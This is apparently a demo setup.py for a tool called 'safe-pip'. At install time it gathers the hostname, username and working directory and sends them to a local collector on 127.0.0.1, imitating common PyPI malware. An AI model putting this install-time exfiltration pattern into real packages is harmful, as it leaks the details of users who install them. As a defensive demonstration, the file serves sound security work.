# safe-pip demo: what two thirds of real PyPI malware does -- run at install
# time and send facts about the machine to a collector.  The collector here
# is the demo's own listener on 127.0.0.1 (DEMO_COLLECTOR_PORT); without it
# this package does nothing harmful.
import getpass
import os
import socket

from setuptools import setup

port = os.environ.get("DEMO_COLLECTOR_PORT")
if port:
    facts = "host=%s user=%s cwd=%s\n" % (socket.gethostname(), getpass.getuser(), os.getcwd())
    with socket.create_connection(("127.0.0.1", int(port)), timeout=5) as s:
        s.sendall(facts.encode())

setup(name="demo-evil", version="1.0", py_modules=["demo_evil"])
